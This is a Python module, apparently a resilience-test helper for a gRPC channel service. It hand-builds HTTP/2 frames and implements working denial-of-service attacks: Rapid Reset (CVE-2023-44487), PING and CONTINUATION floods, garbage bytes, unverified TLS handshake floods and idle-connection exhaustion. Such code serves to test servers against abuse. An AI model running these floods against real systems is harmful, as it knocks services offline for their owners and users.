# SPDX-License-Identifier: Apache-2.0
"""What a hostile client does, byte by byte where a library would not do it."""

from __future__ import annotations

import contextlib
import itertools
import os
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterable, Iterator

Address = tuple[str, int]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM, DATA, PING = 4, 1, 3, 0, 6
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream
    ) + payload  # fmt: skip


def literal(name: str, value: str) -> bytes:
    """A header field as HPACK's literal that leaves the table alone (RFC 7541, 6.2.2)."""
    text = b"\x00"
    for part in (name.encode(), value.encode()):
        assert len(part) < 127
        text += bytes([len(part)]) + part
    return text


def request_headers(method: str) -> bytes:
    return b"".join(
        literal(name, value)
        for name, value in (
            (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "a"),
            ("content-type", "application/grpc"), ("te", "trailers"),
        )
    )  # fmt: skip


def connect(address: Address) -> socket.socket:
    """One that speaks HTTP/2 already."""
    connection = socket.create_connection(address, timeout=5)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def drain(connection: socket.socket) -> None:
    """Reads what is there, so that the other side can go on writing."""
    patience = connection.gettimeout()
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError, ConnectionError):
        while connection.recv(1 << 16):
            pass
    connection.settimeout(patience)


def until(seconds: float) -> Iterator[None]:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield


def flood(address: Address, seconds: float, parts: Callable[[], Iterable[bytes]]) -> int:
    """Sends one part after the other, on new connections as each ends. How many parts."""
    count = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(address) as connection:
            for part in parts():
                if time.monotonic() >= end:
                    break
                connection.sendall(part)
                drain(connection)
                count += 1
    return count


def rapid_reset(address: Address, seconds: float) -> int:
    """Opens calls and resets each at once (CVE-2023-44487). How many."""
    headers = request_headers("/kchan.v1.ChannelService/Subscribe")

    def calls() -> Iterator[bytes]:
        for stream in range(1, 20_000, 200):
            yield b"".join(
                frame(HEADERS, END_HEADERS, each, headers)
                + frame(RST_STREAM, 0, each, struct.pack(">I", 8))
                for each in range(stream, stream + 200, 2)
            )

    return 100 * flood(address, seconds, calls)


def ping_flood(address: Address, seconds: float) -> int:
    pings = frame(PING, 0, 0, bytes(8)) * 1000
    return 1000 * flood(address, seconds, lambda: itertools.repeat(pings, 100))


def garbage(address: Address, seconds: float) -> int:
    """Bytes that are nothing, on one connection after the other."""
    count = 0
    for _ in until(seconds):
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=5) as connection:
            connection.sendall(os.urandom(1 << 14))
            count += 1
    return count


def unfinished_headers(address: Address, seconds: float) -> int:
    """A call whose headers never end: CONTINUATION after CONTINUATION."""
    count = 0
    for _ in until(seconds):
        with contextlib.suppress(OSError), connect(address) as connection:
            connection.sendall(frame(HEADERS, 0, 1, request_headers("/a")))
            for _ in range(1000):
                connection.sendall(frame(9, 0, 1, literal("x-a", "b" * 100) * 100))
                drain(connection)
                count += 1
    return count


def handshakes(address: Address, seconds: float) -> int:
    """TLS handshakes without a certificate. How many."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    count = 0
    for _ in until(seconds):
        with contextlib.suppress(OSError):
            with socket.create_connection(address, timeout=5) as connection:
                with context.wrap_socket(connection) as encrypted:
                    encrypted.sendall(PREFACE)
                    encrypted.recv(1)
        count += 1
    return count


@contextlib.contextmanager
def silent_connections(address: Address, count: int) -> Iterator[int]:
    """Connections that say nothing. How many there are."""
    with contextlib.ExitStack() as connections:
        for _ in range(count):
            connections.enter_context(socket.create_connection(address, timeout=5))
        yield count


Attack = Callable[[Address, float], int]
